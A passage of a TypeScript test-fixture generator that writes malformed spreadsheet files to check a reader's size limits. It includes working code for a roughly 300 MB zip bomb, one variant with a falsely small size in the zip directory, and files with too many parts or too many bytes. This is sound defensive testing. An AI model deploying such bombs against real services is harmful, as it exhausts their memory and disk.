    about: "the same bomb with a central directory that claims sharedStrings.xml is 2 KB",
    read: { code: "zip-too-large", message: /lớn hơn kích thước ghi trong tệp/ },
    build: async () => bomb(true),
  },
  {
    id: "zip-many-parts",
    file: "nhieu-thanh-phan.xlsx",
    about: "a zip with 12,000 tiny parts",
    read: { code: "zip-too-large", message: /12000 thành phần/ },
    build: () =>
      writeZip(Array.from({ length: 12_000 }, (_, i) => ({ name: i === 0 ? "xl/workbook.xml" : `xl/media/p${i}.bin`, data: Buffer.from([i & 255]), stored: true }))),
  },
  {
    id: "oversized-file",
    file: "qua-lon.xlsx",
    about: "a 51 MB file",
    read: { code: "file-too-large", message: /quá lớn \(51 MB; giới hạn 50 MB\)/ },
    build: () => {
      const b = new Uint8Array(51 * 1024 * 1024);
      b.set([0x50, 0x4b, 0x03, 0x04]);
      return b;
    },
  },
];

/**
 * A real workbook whose sharedStrings.xml is 300 MB of one repeated string item once
 * inflated; with `lie`, the zip's directory claims the part is 2 KB.
 */
async function bomb(lie: boolean): Promise<Uint8Array> {
  const good = await book([{ name: "Sheet1", values: [["a"]] }]);
  const parts = (await import("./zip")).readZip(good);
  const item = "<si><t>" + "Bom nén ".repeat(64) + "</t></si>";
  const block = Buffer.from(item.repeat(Math.ceil((1024 * 1024) / Buffer.byteLength(item))), "utf8");
  const copies = Math.ceil((300 * 1024 * 1024) / block.length);
  const deflated = repeatedDeflate(
    block,
    copies,
    Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'),
    Buffer.from("</sst>"),
  );
  return writeZip(
    [...parts].map(([name, data]) =>
      name === "xl/sharedStrings.xml" ? { name, data: deflated, ...(lie ? { claimSize: 2048 } : {}) } : { name, data },
    ),
  );
}

export interface CorpusFile extends BadCase {
  path: string;
}

/** Write every case into `dir` (files named `<id>/<file>` so names may repeat across cases). */
export async function makeCorpus(dir: string, only?: (c: BadCase) => boolean): Promise<CorpusFile[]> {
  const out: CorpusFile[] = [];
  for (const c of CASES.filter(only ?? (() => true))) {
    const sub = path.join(dir, c.id);
    fs.mkdirSync(sub, { recursive: true });
    const p = path.join(sub, c.file);
    fs.writeFileSync(p, await c.build());
    out.push({ ...c, path: p });
  }
  return out;
}

/** `npx tsx test/bad/make-corpus.ts DIR`: write the corpus somewhere to look at it. */
if (require.main === module) {
  const dir = process.argv[2] ?? path.join(process.cwd(), "tmp", "bad-corpus");
  makeCorpus(dir).then((files) => console.log(`${files.length} tệp trong ${dir}`));
}
